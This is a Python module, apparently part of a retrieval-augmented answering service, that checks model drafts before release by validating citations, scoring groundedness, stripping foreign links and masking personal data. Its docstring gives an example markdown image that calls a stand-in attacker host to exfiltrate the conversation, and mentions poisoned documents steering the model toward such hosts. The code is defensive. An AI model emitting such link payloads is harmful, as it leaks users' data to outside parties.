"""The output guard: nothing a model wrote reaches the caller unchecked.

1. Citations: every ``[n]`` must name a chunk retrieved and released for THIS request; any other
   marker is stripped (and counted). Citation bodies are built server-side from the evidence,
   never from model text, so a model cannot invent a source or a quote.
2. Groundedness per sentence against the evidence it cites (all evidence if it cites none),
   with every number checked; the answer's hallucination risk is ``1 - min(groundedness)``,
   and an answer above ``max_hallucination_risk`` is withheld (the caller gets an abstention).
3. Markup and PII re-scan: first of all, the draft's markdown images, links and bare URLs
   are stripped (once, before it is parsed) unless their host is allow-listed
   (``HQG_GUARDS__ALLOWED_LINK_HOSTS``, sub-domains included) or the URL is copied verbatim
   from the evidence (an image is a request to its host, and a URL the model composed can
   carry the conversation out: ``![x](https://attacker.example/?d=…)``, even to a host a
   poisoned document named); last, the answer is scanned live (and by the egress finders)
   and masked under the request's policy, so a value from a prompt or a model's memory is
   masked like one from the evidence.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field, replace

from gateway.ask.answerers import ABSTAIN_PHRASE
from gateway.ask.grounding import support
from gateway.ask.models import Citation, SentenceCheck
from gateway.ask.text import sentences, split_answer, terms
from gateway.egress import EgressGuard, evidence_urls, strip_foreign_links
from privacy.detector import PiiDetector
from privacy.masker import MaskedText
from retrieval.evidence import Evidence

_MARKER = re.compile(r"\s*\[(\d{1,3}(?:\s*,\s*\d{1,3})*)\]")
_REF_SEPARATOR = re.compile(r"\s*,\s*")


@dataclass(frozen=True)
class GuardedAnswer:
    text: str
    citations: tuple[Citation, ...]
    checks: tuple[SentenceCheck, ...]
    hallucination: float
    citations_stripped: int
    abstained: bool
    pii_masked: dict[str, int]


@dataclass(frozen=True)
class ParsedSentence:
    text: str  # with only valid markers left
    bare: str  # without markers
    refs: tuple[int, ...]
    stripped: int


@dataclass(frozen=True)
class OutputCheck:
    """What one request's output guard checks model text against. The whole-draft, JSON and
    streamed guards all take this one object (``gateway.ask.stages.output_check`` builds it),
    so they cannot be handed different evidence, limits or link rules."""

    evidence: Sequence[Evidence]
    question: str  # what groundedness is judged against
    max_hallucination_risk: float
    detector: PiiDetector  # the live detector: a model may repeat a value from anywhere
    egress: EgressGuard
    allowed_link_hosts: frozenset[str] = frozenset()
    #: The URLs a model may repeat verbatim (``evidence_urls``), scanned once per request.
    evidence_urls: frozenset[str] = field(init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "evidence_urls", evidence_urls(self.evidence))

    def strip_links(self, text: str) -> str:
        """``text`` without foreign links and images (``strip_foreign_links``)."""
        return strip_foreign_links(
            text, allowed_hosts=self.allowed_link_hosts, allowed_urls=self.evidence_urls
        )

    def mask(self, text: str) -> MaskedText:
        """Link-stripped model text masked for release, the live detector an extra finder."""
        return self.egress.mask(text, extra=(self.detector.detect,))


def guard_answer(draft: str, check: OutputCheck) -> GuardedAnswer:
    """Check ``draft`` against ``check.evidence``; see the module docstring for the rules."""
    judged = judge(check.strip_links(draft), check)
    if judged.verdict.abstained:
        return judged.verdict
    answer = check.mask(judged.sentences)
    return replace(judged.verdict, text=answer.text, pii_masked=dict(answer.entity_counts))


@dataclass(frozen=True)
class Judged:
    """A draft's verdict before release. ``verdict.text`` is the abstention or empty;
    ``sentences`` (the draft's, valid markers kept) are NOT masked: release them only through
    ``OutputCheck.mask``."""

    verdict: GuardedAnswer
    sentences: str = ""


def judge(draft: str, check: OutputCheck) -> Judged:
    """Citations and groundedness of a ``draft`` whose links are already stripped."""
    parsed = [parse_sentence(s, len(check.evidence)) for s in split_answer(draft)]
    stripped = sum(p.stripped for p in parsed)
    if not parsed or ABSTAIN_PHRASE.lower().rstrip(".") in draft.lower():
        return Judged(_abstain(stripped=stripped, hallucination=0.0))
    checks = tuple(
        check_sentence(i, p, check.evidence, check.question) for i, p in enumerate(parsed)
    )
    risk = 1.0 - min(c.groundedness for c in checks)
    if risk > check.max_hallucination_risk:
        return Judged(_abstain(stripped=stripped, hallucination=risk, checks=checks))
    verdict = GuardedAnswer(
        text="",
        citations=citations_of(parsed, check.evidence),
        checks=checks,
        hallucination=risk,
        citations_stripped=stripped,
        abstained=False,
        pii_masked={},
    )
    return Judged(verdict, sentences=" ".join(p.text for p in parsed))


def parse_sentence(sentence: str, available: int) -> ParsedSentence:
    refs: list[int] = []
    stripped = 0

    def keep(match: re.Match[str]) -> str:
        nonlocal stripped
        numbers = [int(n) for n in _REF_SEPARATOR.split(match.group(1))]
        valid = [n for n in numbers if 1 <= n <= available]
        stripped += len(numbers) - len(valid)
        refs.extend(n for n in valid if n not in refs)
        return f" [{', '.join(map(str, valid))}]" if valid else ""

    text = _MARKER.sub(keep, sentence).strip()
    return ParsedSentence(
        text=text, bare=_MARKER.sub("", sentence).strip(), refs=tuple(refs), stripped=stripped
    )


def check_sentence(
    index: int, sentence: ParsedSentence, evidence: Sequence[Evidence], question: str
) -> SentenceCheck:
    cited = [evidence[r - 1] for r in sentence.refs] or list(evidence)
    result = support(sentence.bare, (_context(e) for e in cited), question=question)
    return SentenceCheck(
        index=index,
        refs=sentence.refs,
        groundedness=round(result.score, 4),
        unsupported_numbers=len(result.unsupported_numbers),
    )


def _context(item: Evidence) -> str:
    return f"{item.title or ''}\n{item.text}"


def citations_of(
    parsed: Sequence[ParsedSentence], evidence: Sequence[Evidence]
) -> tuple[Citation, ...]:
    out: dict[int, Citation] = {}
    for sentence in parsed:
        for ref in sentence.refs:
            if ref not in out:
                out[ref] = _citation(ref, evidence[ref - 1], sentence.bare)
    return tuple(out[ref] for ref in sorted(out))


def _citation(ref: int, item: Evidence, claim: str) -> Citation:
    wanted = terms(claim)
    quotes = [s.text for s in sentences(item.text)] or [item.text]
    quote = max(quotes, key=lambda q: len(terms(q) & wanted))
    return Citation(
        ref=ref,
        collection=item.collection,
        doc_id=item.doc_id,
        chunk_id=item.chunk_id,
        title=item.title,
        quote=quote,
        source=item.source,
        as_of=item.as_of,
        stale=item.stale,
        content_hash=item.content_hash,
    )


def _abstain(
    *, stripped: int, hallucination: float, checks: tuple[SentenceCheck, ...] = ()
) -> GuardedAnswer:
    return GuardedAnswer(
        text=ABSTAIN_PHRASE,
        citations=(),
        checks=checks,
        hallucination=hallucination,
        citations_stripped=stripped,
        abstained=True,
        pii_masked={},
    )
